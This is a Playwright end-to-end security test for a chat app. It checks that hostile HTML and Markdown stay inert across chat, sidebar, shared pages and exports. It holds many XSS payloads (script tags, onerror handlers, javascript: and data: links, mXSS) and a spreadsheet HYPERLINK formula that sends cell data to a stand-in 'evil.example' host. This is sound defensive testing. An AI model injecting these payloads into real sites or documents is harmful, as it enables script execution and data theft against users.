import type { Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { expect, test } from "./fixtures";
import { ChatPage } from "./pages/chat-page";

// Hostile Markdown and HTML from both sides (a model's reply, a user's message and chat title) planted once, then
// looked at everywhere it is shown or downloaded: the chat, the sidebar, the shared page, the exports and the usage
// CSV. Every payload would call alert() or set window.__pwned if it ran; none may. (e2e/markdown.spec.ts has the
// reply's script, img-onerror and javascript: links streamed and stored; this spec adds the other places.)

const TITLE = `=HYPERLINK("http://evil.example/?"&A1,"open")<img src=x onerror="alert('title')"><svg onload="alert('title-svg')">`;
const USER_TEXT = `<script>window.__pwned='user'</script><img src=x onerror="alert('user')"> [user link](javascript:alert('user-link'))`;
const REPLY = [
  `<svg onload="alert('svg')"><circle r="1"/></svg>`,
  `<iframe src="javascript:alert('iframe')"></iframe> <iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
  `<a href="javascript:alert('raw-a')">raw anchor</a> <details open ontoggle="alert('details')">x</details>`,
  "[upper](JaVaScRiPt:alert('upper')) [entity](&#106;avascript:alert('entity')) [tab](java\tscript:alert('tab'))",
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox)",
  `<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')">`,
  `<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">`,
].join("\n\n");

/** What ran: every dialog a payload opened, and the flag a payload sets. */
async function watchForScripts(page: Page): Promise<() => Promise<string[]>> {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return async () => {
    const flag = await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned);
    return flag ? [...dialogs, `window.__pwned=${flag}`] : dialogs;
  };
}

/** Nothing on the page can run script: no planted element with a handler, no script-carrying link or frame. */
async function expectInert(page: Page) {
  await expect(page.locator("main script, nav script, article script")).toHaveCount(0);
  await expect(page.locator("svg[onload], img[onerror], details[ontoggle], iframe, object, embed")).toHaveCount(0);
  await expect(
    page.locator('a[href^="javascript:" i], a[href^="data:" i], a[href^="vbscript:" i], a[href*="script:" i]'),
  ).toHaveCount(0);
}

test("hostile Markdown and HTML stay text in the chat, sidebar, shared page, exports and usage CSV", async ({
  page,
  browser,
  account: _signedIn,
}) => {
  const ran = await watchForScripts(page);
  await page.goto("/");
  const chat = new ChatPage(page);
  await chat.send(`[[reply:${REPLY}]] ${USER_TEXT}`);
  const reply = await chat.waitForReply();
  const conversationId = await chat.conversationId();
  const renamed = await page.request.patch(`/api/conversations/${conversationId}`, { data: { title: TITLE } });
  expect(renamed.status()).toBe(200);

  await page.reload();
  await chat.waitForReply();
  await expect(reply).toContainText(`<svg onload="alert('svg')">`);
  await expect(reply).toContainText("raw anchor");
  await expect(chat.userMessages().last()).toContainText("<script>window.__pwned='user'</script>");
  await expect(chat.sidebar.getByText(TITLE).first()).toBeVisible();
  await expectInert(page);
  expect(await ran()).toEqual([]);

  // The shared page, as a signed-out visitor sees it.
  const shared = await page.request.post(`/api/conversations/${conversationId}/share`);
  expect(shared.ok()).toBe(true);
  const { share } = (await shared.json()) as { share: { path: string } };
  const visitor = await browser.newContext();
  const sharedPage = await visitor.newPage();
  const visitorRan = await watchForScripts(sharedPage);
  await sharedPage.goto(share.path);
  await expect(sharedPage.getByText("raw anchor").first()).toBeVisible();
  await expect(sharedPage.getByText("<script>window.__pwned='user'</script>").first()).toBeVisible();
  await expectInert(sharedPage);
  expect(await visitorRan()).toEqual([]);
  await visitor.close();

  // Downloads: never a type a browser renders, always an attachment, never sniffed into one.
  for (const url of [
    `/api/conversations/${conversationId}/export?format=md`,
    `/api/conversations/${conversationId}/export?format=json`,
    "/api/export",
    "/api/usage/export",
  ]) {
    const response = await page.request.get(url);
    expect(response.status(), url).toBe(200);
    const headers = response.headers();
    expect(headers["content-type"], url).toMatch(/^(text\/markdown|application\/json|text\/csv); charset=utf-8$/);
    expect(headers["content-disposition"], url).toMatch(/^attachment; /);
    expect(headers["x-content-type-options"], url).toBe("nosniff");
  }
  // Opened in the browser, an export is a download, not a page of our origin running what it holds.
  const download = page.waitForEvent("download");
  await page.evaluate((url) => {
    window.location.href = url;
  }, `/api/conversations/${conversationId}/export?format=md`);
  expect((await download).suggestedFilename()).toMatch(/\.md$/);
  expect(await ran()).toEqual([]);

  // The usage CSV: the title cell cannot start a formula (OWASP: a leading apostrophe).
  const csv = await (await page.request.get("/api/usage/export")).text();
  const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
  const titles = rows.map((row) => row.conversation_title);
  expect(titles).toContain(`'${TITLE}`);
  for (const row of rows) {
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
});
